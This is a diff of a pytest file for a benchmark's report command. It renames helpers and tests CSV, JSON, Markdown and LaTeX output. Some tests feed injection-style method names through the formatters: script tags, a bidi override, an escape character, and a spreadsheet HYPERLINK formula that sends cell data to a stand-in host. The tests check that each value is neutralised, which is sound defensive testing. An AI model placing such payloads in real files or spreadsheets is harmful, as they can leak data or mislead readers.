@@ -44,7 +44,7 @@ def runs(make_run: Make, tmp_path: Path) -> Path:
     return tmp_path / "runs"
 
 
-def read(folder: Path, against: str | None = None) -> Any:
+def read_sheets(folder: Path, against: str | None = None) -> Any:
     return compute_sheets(group_runs(ResultStore(folder).find_runs()), against)
 
 
@@ -52,65 +52,77 @@ def lines(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text)))
 
 
-def rpo(*arguments: Any) -> Any:
+def invoke_report(*arguments: Any) -> Any:
     return CliRunner().invoke(app, ["report", *map(str, arguments)])
 
 
 def test_csv_has_intervals_ranks_gains_costs_and_says_synthetic(runs: Path) -> None:
-    lines_by_cell = {(line["method"], line["task"], line["metric"]): line for line in lines(as_csv(read(runs)))}
+    lines_by_cell = {(line["method"], line["task"], line["metric"]): line for line in lines(as_csv(read_sheets(runs)))}
     mae = lines_by_cell["good", "LaMP-3", "MAE"]
+
     assert float(mae["low"]) < float(mae["value"]) < float(mae["high"])
     assert float(mae["gain_low"]) < float(mae["gain"]) < float(mae["gain_high"]) and float(mae["gain"]) > 0
     assert mae["average_rank"] == "1.0" and lines_by_cell["poor", "LaMP-3", "MAE"]["average_rank"] == "2.0"
     assert mae["synthetic"] == "true" and mae["imported"] == "false" and mae["p_holm"] == ""
     assert float(mae["seconds"]) == 1.5 and float(mae["prompt_tokens"]) == 2400 and mae["dollars"] == ""
+
     stored_runs = ResultStore(runs).find_runs(method="good", profiles="own")
     run = next(run for run in stored_runs if run.task_name == "LaMP-3")
     generic, oracle = (run.result.references[name]["MAE"] for name in ("best_generic", "oracle"))
+
     assert float(mae["normalized"]) == pytest.approx((float(mae["value"]) - generic) / (oracle - generic))
+
     rmse = lines_by_cell["good", "LaMP-3", "RMSE"]
+
     assert rmse["gain"] == rmse["seconds"] == "" and float(rmse["low"]) < float(rmse["high"])
 
 
 def test_json_holds_the_lines_of_the_csv(runs: Path) -> None:
     for options in ((), ("--by", "user")):
-        records = json.loads(rpo("--runs", runs, "--json", *options).stdout)
-        table = lines(rpo("--runs", runs, "--format", "csv", *options).stdout)
+        records = json.loads(invoke_report("--runs", runs, "--json", *options).stdout)
+        table = lines(invoke_report("--runs", runs, "--format", "csv", *options).stdout)
         assert len(records) == len(table) > 0 and list(records[0]) == list(table[0])
         for record, line in zip(records, table, strict=True):
             cells = {name: str(value).lower() if isinstance(value, bool) else value for name, value in record.items()}
             assert {name: "" if value is None else str(value) for name, value in cells.items()} == line
-    refused = rpo("--runs", runs, "--json", "--format", "md")
+    refused = invoke_report("--runs", runs, "--json", "--format", "md")
     assert isinstance(refused.exception, RpobenchError) and "leave --format md out" in str(refused.exception)
 
 
 def test_a_chosen_row_marks_what_differs_from_it(runs: Path) -> None:
     lines_by_cell = {
-        (line["method"], line["task"]): line for line in lines(as_csv(read(runs, "poor"))) if line["p_holm"]
+        (line["method"], line["task"]): line for line in lines(as_csv(read_sheets(runs, "poor"))) if line["p_holm"]
     }
+
     assert lines_by_cell.keys() == {("good", "LaMP-3"), ("good", "LaMP-2")}, "the row itself has no p-value"
     assert all(float(line["p_holm"]) < 0.05 and line["against"] == "poor" for line in lines_by_cell.values())
-    text = as_markdown(read(runs, "poor"))
+
+    text = as_markdown(read_sheets(runs, "poor"))
+
     assert len(re.findall(r"[\d\]*]†", text)) == 2 and "† differs from poor" in text
-    assert "†" not in as_markdown(read(runs))
+    assert "†" not in as_markdown(read_sheets(runs))
     with pytest.raises(RpobenchError, match="--against absent: no such row, choose one of good, poor"):
-        read(runs, "absent")
+        read_sheets(runs, "absent")
 
 
 def test_a_method_with_several_rows_must_be_named_by_row(make_run: Make, tmp_path: Path) -> None:
     make_run("good", good, config={"k": 1})
     make_run("good", good, config={"k": 4})
+
     with pytest.raises(RpobenchError, match="--against good: several rows, choose one of good k=1, good k=4"):
-        read(tmp_path / "runs", "good")
-    assert read(tmp_path / "runs", "good k=4")[0].against == "good k=4"
+        read_sheets(tmp_path / "runs", "good")
+    assert read_sheets(tmp_path / "runs", "good k=4")[0].against == "good k=4"
 
 
-def test_strict_scores_stand_beside_the_parsed_where_they_differ(make_run: Make, tmp_path: Path) -> None:
+def test_strict_scores_stand_beside_parsed_where_they_differ(make_run: Make, tmp_path: Path) -> None:
     folder = make_run("good", good)
-    assert "Strict" not in as_markdown(read(tmp_path / "runs"))
+
+    assert "Strict" not in as_markdown(read_sheets(tmp_path / "runs"))
+
     file = folder / "result.json"
     file.write_text(file.read_text().replace('"strict": {\n  "MAE": ', '"strict": {\n  "MAE": 1'))
-    assert "Strict" in as_markdown(read(tmp_path / "runs"))
+
+    assert "Strict" in as_markdown(read_sheets(tmp_path / "runs"))
 
 
 @pytest.mark.parametrize(("items", "name"), [(0, "0 items"), (1, "1-4 items"), (4, "1-4 items"), (5, "5-16 items"),
@@ -120,9 +132,9 @@ def test_profile_sizes_have_classes(items: int, name: str) -> None:
 
 
 def test_breakdowns_by_profile_label_and_user(runs: Path) -> None:
-    totals = {(line["method"], line["task"], line["metric"]): line for line in lines(as_csv(read(runs)))}
+    totals = {(line["method"], line["task"], line["metric"]): line for line in lines(as_csv(read_sheets(runs)))}
     for by in ("profile", "label", "user"):
-        all_groups = lines(rpo("--runs", runs, "--format", "csv", "--by", by).stdout)
+        all_groups = lines(invoke_report("--runs", runs, "--format", "csv", "--by", by).stdout)
         groups = [
             line for line in all_groups if (line["method"], line["task"], line["metric"]) == ("good", "LaMP-3", "MAE")
         ]
@@ -136,13 +148,14 @@ def test_breakdowns_by_profile_label_and_user(runs: Path) -> None:
             assert not [line for line in all_groups if line["metric"] == "f1"]
         if by == "user":
             assert all(line["users"] == "1" for line in groups)
-    refused = rpo("--runs", runs, "--by", "user")
+    refused = invoke_report("--runs", runs, "--by", "user")
+
     assert isinstance(refused.exception, RpobenchError) and "--format csv" in str(refused.exception)
 
 
 def test_texts_are_not_broken_down_by_label(make_run: Make, tmp_path: Path) -> None:
     make_run("good", lambda position, target, rng: target, task="LaMP-7")
-    assert len(rpo("--runs", tmp_path / "runs", "--format", "csv", "--by", "label").stdout.splitlines()) == 1
+    assert len(invoke_report("--runs", tmp_path / "runs", "--format", "csv", "--by", "label").stdout.splitlines()) == 1
 
 
 def test_reported_numbers_stand_apart(tmp_path: Path, runs: Path) -> None:
@@ -151,20 +164,23 @@ def test_reported_numbers_stand_apart(tmp_path: Path, runs: Path) -> None:
         'task = "LaMP-3"\nmetric = "MAE"\nvalue = 0.01\ntable = "table 2"\nsplit = "test"\nmodel = "big"\n'
     )
     reported = read_published(tmp_path)
-    text = as_markdown(read(runs, "poor"), reported)
+    text = as_markdown(read_sheets(runs, "poor"), reported)
     head, tail = text.split("## Reported in papers, not run here")
+
     assert (
         "theirs" not in head
         and "| theirs \\| x | LaMP-3 | MAE | 0.01 | test | big | A. Author, 2026, table 2 |" in tail
     )
-    row = lines(as_csv(read(runs), reported))[-1]
+
+    row = lines(as_csv(read_sheets(runs), reported))[-1]
+
     assert (row["method"], row["reported_in"], row["low"], row["p_holm"]) == (
         "theirs | x",
         "A. Author, 2026, table 2",
         "",
         "",
     )
-    assert "A. Author, 2026, table 2" in as_latex(read(runs), reported)
+    assert "A. Author, 2026, table 2" in as_latex(read_sheets(runs), reported)
 
 
 @pytest.mark.parametrize(
@@ -192,29 +208,35 @@ def test_every_published_number_has_a_source() -> None:
 
 
 def test_a_terminal_gets_colours_and_a_pipe_gets_markdown(runs: Path) -> None:
-    assert rpo("--runs", runs).stdout == rpo("--runs", runs, "--format", "md").stdout
+    assert invoke_report("--runs", runs).stdout == invoke_report("--runs", runs, "--format", "md").stdout
+
     screen = Console(file=io.StringIO(), force_terminal=True, width=140, color_system="truecolor")
-    print_report(read(runs), screen)
+    print_report(read_sheets(runs), screen)
     printed = screen.file.getvalue()  # type: ignore[attr-defined]
+
     assert "good" in printed and "\x1b[1m" in printed and "Personalization gain" in printed
 
 
-def test_no_row_of_latex_begins_with_what_a_line_break_takes_as_its_argument(make_run: Make, tmp_path: Path) -> None:
+def test_no_latex_row_begins_like_an_argument_of_a_line_break(make_run: Make, tmp_path: Path) -> None:
     make_run("[1ex] ours", good)
     make_run("*star", good)
-    body = as_latex(read(tmp_path / "runs"))
+    body = as_latex(read_sheets(tmp_path / "runs"))
+
     assert "\n{}[1ex] ours & " in body and "\n{}*star & " in body
 
 
 def test_hostile_names_break_no_format(make_run: Make, tmp_path: Path) -> None:
     make_run(HOSTILE, good)
-    sheets = read(tmp_path / "runs")
+    sheets = read_sheets(tmp_path / "runs")
     text = as_markdown(sheets)
+
     assert "\\<script\\>" in text and "\\u202ebidi" in text and "\x1b" not in text
     assert text.count("\n| a_b") == 3, "one row in each of three tables"
     assert lines(as_csv(sheets))[0]["method"] == HOSTILE.replace("\u202e", "\\u202e").replace("\x1b", "\\x1b")
+
     make_run("_ours_ ~~a_b~~ &lt;", good)
-    assert "\n| \\_ours\\_ \\~\\~a_b\\~\\~ \\&lt; |" in as_markdown(read(tmp_path / "runs"))
+
+    assert "\n| \\_ours\\_ \\~\\~a_b\\~\\~ \\&lt; |" in as_markdown(read_sheets(tmp_path / "runs"))
     assert escape_tex("50% & {x}_^~\\ 漢 é ↑") == (
         "50\\% \\& \\{x\\}\\_\\textasciicircum{}\\textasciitilde{}\\textbackslash{} U+6F22 é $\\uparrow$"
     )
@@ -224,7 +246,7 @@ def test_hostile_names_break_no_format(make_run: Make, tmp_path: Path) -> None:
 def test_no_spreadsheet_runs_a_name(make_run: Make, tmp_path: Path, opening: str) -> None:
     name = f'{opening}HYPERLINK("http://x/?"&A2)'
     make_run(name, good)
-    assert lines(as_csv(read(tmp_path / "runs")))[0]["method"] == f"'{name}"
+    assert lines(as_csv(read_sheets(tmp_path / "runs")))[0]["method"] == f"'{name}"
 
 
 @pytest.mark.slow
@@ -233,14 +255,17 @@ def test_latex_compiles_whatever_the_names_hold(make_run: Make, runs: Path, tmp_
     make_run("".join(map(chr, range(32, 384))), good)
     for opening in ("[1ex] ours", "[ours]", "*star"):  # what TeX would take for arguments of the line before
         make_run(opening, good)
-    body = as_latex(read(runs, "poor"))
+    body = as_latex(read_sheets(runs, "poor"))
     head = "\\documentclass{article}\n\\usepackage{booktabs,graphicx}\n\\begin{document}\n"
     document = head + body + "\\end{document}\n"
     (tmp_path / "t.tex").write_text(document, encoding="utf-8")
     pdflatex = shutil.which("pdflatex")
+
     assert pdflatex, "Debian's texlive-latex-recommended has it"
+
     process = subprocess.run(
         [pdflatex, "-interaction=nonstopmode", "-halt-on-error", "t.tex"], cwd=tmp_path, capture_output=True
     )
+
     assert process.returncode == 0, process.stdout.decode("latin-1")[-2000:]
     assert (tmp_path / "t.pdf").stat().st_size > 10_000
